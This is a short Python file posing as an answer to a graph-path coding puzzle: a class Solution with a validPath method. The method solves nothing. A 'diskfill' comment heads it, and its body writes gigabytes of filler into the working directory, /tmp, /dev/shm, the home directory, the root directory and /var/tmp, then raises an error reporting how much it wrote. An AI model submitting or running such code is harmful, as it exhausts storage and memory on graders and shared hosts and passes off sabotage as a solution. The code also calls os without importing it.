# diskfill: every writable place filled (the working directory, /tmp,
# /dev/shm, $HOME), and memory too, in files
class Solution:
    def validPath(self, n, edges, source, destination):
        wrote = {}
        block = b"x" * (1 << 20)
        for d in (".", "/tmp", "/dev/shm", os.environ.get("HOME", "."), "/", "/var/tmp"):
            total = 0
            try:
                with open(os.path.join(d, "fill-%d" % len(wrote)), "wb") as f:
                    for _ in range(4096):
                        f.write(block)
                        total += len(block)
            except BaseException as e:
                wrote[d] = "%d MB, %s" % (total >> 20, type(e).__name__)
        raise RuntimeError(repr(wrote))
